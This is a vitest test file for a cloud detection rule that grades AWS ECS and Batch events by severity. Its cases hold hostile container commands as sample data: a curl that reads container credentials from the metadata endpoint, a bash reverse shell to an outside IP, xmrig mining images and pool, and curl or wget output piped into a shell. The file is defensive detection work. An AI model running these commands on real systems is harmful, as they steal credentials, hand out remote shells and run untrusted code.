import { expect, it } from 'vitest';
import { DEPLOY } from '../../test/aws-actors.js';
import { awsEvent, DENIED, verdict } from '../../test/aws-event.js';
import detection from './container-command.js';

const REGISTER = 'ecs:RegisterTaskDefinition';
const task = (...command: string[]) => ({ family: 'web', containerDefinitions: [{ name: 'c', command }] });
const image = (name: string) => ({ family: 'web', containerDefinitions: [{ name: 'c', image: name }] });
const privileged = { containerDefinitions: [{ image: 'agent', privileged: true }] };
const overrides = (container: object) => ({
  taskDefinition: 'orders:88',
  overrides: { taskRoleArn: 'arn:aws:iam::111122223333:role/admin', containerOverrides: [container] },
});

it.each([
  ['an ordinary command', awsEvent(REGISTER, task('node', 'server.js')), 'log/low'],
  [
    'reading credentials',
    awsEvent(REGISTER, task('sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI')),
    'alert/high',
  ],
  [
    'reading credentials, by a machine',
    awsEvent(REGISTER, task('curl 169.254.170.2/v2/credentials'), DEPLOY),
    'alert/high',
  ],
  [
    'looking up the own address',
    awsEvent(REGISTER, task('curl http://169.254.169.254/latest/meta-data/local-ipv4')),
    'log/low',
  ],
  [
    'calling home',
    awsEvent(REGISTER, task('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1')),
    'alert/high',
  ],
  [
    'mining, in an override',
    awsEvent('ecs:RunTask', {
      overrides: { containerOverrides: [{ command: ['x', '-o', 'stratum+tcp://pool'] }] },
    }),
    'alert/high',
  ],
  [
    'mining, as a job',
    awsEvent('batch:SubmitJob', { jobName: 'j', containerOverrides: { command: ['xmrig'] } }),
    'alert/high',
  ],
  ['mining, by its image', awsEvent(REGISTER, image('docker.io/xmrig/xmrig:latest')), 'alert/high'],
  ['mining, by its image, by a machine', awsEvent(REGISTER, image('x/xmrig'), DEPLOY), 'alert/high'],
  ['an image that mines data', awsEvent(REGISTER, image('acme/process-miner')), 'log/low'],
  ['running a download', awsEvent(REGISTER, task('sh', '-c', 'curl http://x.example/a|sh')), 'notify/medium'],
  [
    'running a download, by a machine',
    awsEvent(REGISTER, task('sh', '-c', 'wget -qO- "http://x.example/a?b&c" | sudo /bin/bash -s'), DEPLOY),
    'notify/medium',
  ],
  [
    'running a download, put in',
    awsEvent(REGISTER, task('bash', '-c', 'bash <(curl -s x.example)')),
    'notify/medium',
  ],
  [
    'running a download, as words',
    awsEvent(REGISTER, task('sh', '-c', '$(curl -s x.example)')),
    'notify/medium',
  ],
  ['looking at a download', awsEvent(REGISTER, task('curl x.example | jq . || sh help')), 'log/low'],
  [
    'a download in a variable',
    awsEvent(REGISTER, task('sh', '-c', 'IP=$(curl x.example) node .')),
    'log/low',
  ],
  ['another role and command', awsEvent('ecs:RunTask', overrides({ command: ['x'] })), 'notify/medium'],
  ['the same as a start', awsEvent('ecs:StartTask', overrides({ command: ['x'] })), 'notify/medium'],
  ['the same by a machine', awsEvent('ecs:RunTask', overrides({ command: ['x'] }), DEPLOY), 'log/low'],
  [
    'another role and command, refused',
    awsEvent('ecs:RunTask', overrides({ command: ['x'] }), DENIED),
    'log/medium',
  ],
  ['another role only', awsEvent('ecs:RunTask', overrides({ name: 'c' })), 'log/low'],
  [
    'another command only',
    awsEvent('ecs:RunTask', { overrides: { containerOverrides: [{ command: ['run'] }] } }),
    'log/low',
  ],
  ['privileged', awsEvent(REGISTER, privileged), 'notify/medium'],
  ['privileged, by a machine', awsEvent(REGISTER, privileged, DEPLOY), 'log/low'],
  ['an ordinary job', awsEvent('batch:SubmitJob', { jobName: 'j' }), 'log/low'],
  ['a shell', awsEvent('ecs:ExecuteCommand', { task: 't' }), 'notify/low'],
  ['a failed try', awsEvent(REGISTER, task('xmrig'), DENIED), 'notify/high'],
  ['a look', awsEvent('ecs:DescribeTaskDefinition', null), 'none'],
])('%s', (_, event, expected) => {
  expect(verdict(detection, event)).toBe(expected);
});

it('says what was done', () => {
  expect(detection.says(awsEvent(REGISTER, task()))).toBe('wrote down how to run the containers web');
});
